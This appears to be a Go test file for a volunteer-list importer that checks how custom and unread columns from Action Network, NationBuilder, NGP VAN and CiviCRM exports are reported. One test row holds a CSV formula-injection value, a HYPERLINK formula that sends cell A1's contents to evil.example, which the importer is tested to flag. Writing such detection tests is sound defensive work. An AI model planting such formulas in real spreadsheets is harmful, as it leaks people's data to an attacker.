package importer_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/chapterdesk/chapterdesk/importer"
)

// TestActionNetworkExtraColumnsAreNotRead: an Action Network report's custom
// questions come as extra columns under their own titles; they were dropped without
// a word, where a plain spreadsheet lists the same columns as not read (tester t3's
// F4). The report's own columns (can2_…) left on purpose are not listed.
func TestActionNetworkExtraColumnsAreNotRead(t *testing.T) {
	report := "uuid,first_name,last_name,email,zip_code,can2_user_city,can2_user_state,can2_phone,can2_user_tags,can2_user_county,What language do you speak at home?,Can you host a house party?\n" +
		"action_network:cc,Thảo,Nguyễn,thao@example.org,02124,Dorchester,MA,617-555-7001,\"SCA, Vietnamese\",Suffolk,Tiếng Việt,Yes\n"
	in, err := importer.ReadVolunteers(strings.NewReader(report), "")
	if err != nil || len(in.Rows) != 1 {
		t.Fatalf("%v, %d rows", err, len(in.Rows))
	}
	if in.Format.ID != "actionnetwork" {
		t.Fatalf("read as %s", in.Format.ID)
	}
	if want := []string{"What language do you speak at home?", "Can you host a house party?"}; !slices.Equal(in.NotRead, want) {
		t.Errorf("not read: %q; want %q", in.NotRead, want)
	}
}

// TestTwoPeopleNoteNamesTheirColumn: a sign of two people in the family-name column
// (the & of "Jones & Smith", or of a spreadsheet formula) was said of the first-name
// column, "Evil" (tester t3's F9): the note names the column that has it. A formula
// is no name at all since (tester t8): its note, too, names its column.
func TestTwoPeopleNoteNamesTheirColumn(t *testing.T) {
	sheet := "First Name,Last Name,Email\n" +
		"Evil,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",evil@example.org\n" +
		"Bob & Linda,Jones,jones@example.org\n"
	in, err := importer.ReadVolunteers(strings.NewReader(sheet), "")
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, n := range in.ValueNotes {
		for _, why := range []string{"may be two people", "a spreadsheet formula, no name"} {
			if strings.Contains(n.Why, why) {
				got = append(got, fmt.Sprintf("%d:%d:%s:%s: %s", n.Line, n.Column, n.Name, n.Value, why))
			}
		}
	}
	want := []string{`2:2:Last Name:=HYPERLINK("http://evil.example/?"&A1,"click"): a spreadsheet formula, no name`,
		"3:1:First Name:Bob & Linda: may be two people"}
	if !slices.Equal(got, want) {
		t.Errorf("notes %q; want %q", got, want)
	}
}

// TestExportCustomFieldsAreNotRead: a NationBuilder, NGP VAN or CiviCRM export's
// custom fields ("Languages spoken", a VAN activist code) were dropped without a
// word, where an Action Network report's custom questions are listed as not read.
// They are listed by name, from the real exports' headers; the exports' own columns
// left on purpose (NationBuilder's ~200) are not. The NationBuilder header ends in
// one organization's custom fields.
func TestExportCustomFieldsAreNotRead(t *testing.T) {
	nbCustom := []string{"faith_leader", "clergy_type", "chapter", "#Call Representatives", "?Web Design", "!Phone Bank", "tag:Request Contact"}
	for _, c := range []struct {
		header, format string
		extra          []string
		person         map[string]string
		want           []string
	}{
		{"nationbuilder-people-export", "nationbuilder", []string{"Languages spoken", "Can host"},
			map[string]string{"nationbuilder_id": "7", "first_name": "Ana", "last_name": "Souza", "Languages spoken": "Português"},
			append(slices.Clone(nbCustom), "Languages spoken", "Can host")},
		{"ngpvan-export-job", "ngpvan", []string{"Phone Bank Volunteer"},
			map[string]string{"VanID": "1001", "FirstName": "Ana", "LastName": "Souza", "Phone Bank Volunteer": "Y"},
			[]string{"Phone Bank Volunteer"}},
		{"civicrm-contact-export", "civicrm", []string{"Languages spoken"},
			map[string]string{"Contact ID": "3", "Contact Type": "Individual", "First Name": "Ana", "Last Name": "Souza"},
			[]string{"Languages spoken"}},
	} {
		t.Run(c.format, func(t *testing.T) {
			in, err := importer.ReadVolunteers(strings.NewReader(exportCSVWith(t, c.header, c.extra, c.person)), "")
			if err != nil || len(in.Rows) != 1 || in.Format.ID != c.format {
				t.Fatalf("%v, %d rows, read as %s", err, len(in.Rows), in.Format.ID)
			}
			if !slices.Equal(in.NotRead, c.want) {
				t.Errorf("not read: %q; want %q", in.NotRead, c.want)
			}
		})
	}
}

// TestExportColumnsWithValuesAreNotRead: the export's own columns ChapterDesk has
// no field for were left without a word, whatever they held. Those a lead cares
// about (an employer, a volunteer's availability, CiviCRM's Job Title) are named
// with the rows that hold a value; the others that hold one are summed up; a
// column empty in every row, or holding only FALSE or $0.00 (NationBuilder's
// defaults), is neither.
func TestExportColumnsWithValuesAreNotRead(t *testing.T) {
	for _, c := range []struct {
		header, format string
		people         []map[string]string
		named          []importer.UnreadColumn
		other          []string
	}{
		{"nationbuilder-people-export", "nationbuilder", []map[string]string{
			{"nationbuilder_id": "7", "first_name": "Ana", "last_name": "Souza", "employer": "Mass General",
				"availability": "Weekends", "is_donor": "FALSE", "donations_amount": "$0.00 ", "capital_amount": "0",
				"billing_city": "Boston", "party": "D", "email1_is_bad": "TRUE", "email1": "ana@example.org"},
			{"nationbuilder_id": "8", "first_name": "Bo", "last_name": "Li", "employer": "City of Boston", "is_volunteer": "TRUE",
				"is_donor": "FALSE", "donations_amount": "$0.00 "},
		}, []importer.UnreadColumn{{Name: "employer", Rows: 2, FirstLine: 2}, {Name: "is_volunteer", Rows: 1, FirstLine: 3},
			{Name: "availability", Rows: 1, FirstLine: 2}}, []string{"billing_city", "party"}},
		{"nationbuilder-people-export", "nationbuilder", []map[string]string{
			{"nationbuilder_id": "7", "first_name": "Ana", "last_name": "Souza", "is_donor": "FALSE", "donations_amount": "$0.00 ",
				"capital_amount": "0", "is_volunteer": "false"},
		}, nil, nil},
		{"ngpvan-export-job", "ngpvan", []map[string]string{
			{"VanID": "1001", "FirstName": "Ana", "LastName": "Souza", "Employer": "MGH", "County": "Suffolk", "Party": "D"},
		}, []importer.UnreadColumn{{Name: "Employer", Rows: 1, FirstLine: 2}}, []string{"County", "Party"}},
		{"civicrm-contact-export", "civicrm", []map[string]string{
			{"Contact ID": "3", "Contact Type": "Individual", "First Name": "Ana", "Last Name": "Souza", "Do Not Trade": "1",
				"Job Title": "Nurse", "Middle Name": "Q", "Do Not Mail": "0"},
		}, []importer.UnreadColumn{{Name: "Job Title", Rows: 1, FirstLine: 2}},
			[]string{"Do Not Trade", "Middle Name"}},
	} {
		t.Run(c.format, func(t *testing.T) {
			in, err := importer.ReadVolunteers(strings.NewReader(exportCSV(t, c.header, c.people...)), "")
			if err != nil || len(in.Rows) != len(c.people) || in.Format.ID != c.format {
				t.Fatalf("%v, %d rows, read as %s", err, len(in.Rows), in.Format.ID)
			}
			if !slices.Equal(in.Unread.Named, c.named) || !slices.Equal(in.Unread.Other, c.other) {
				t.Errorf("named %+v, other %q; want %+v, %q", in.Unread.Named, in.Unread.Other, c.named, c.other)
			}
		})
	}
}
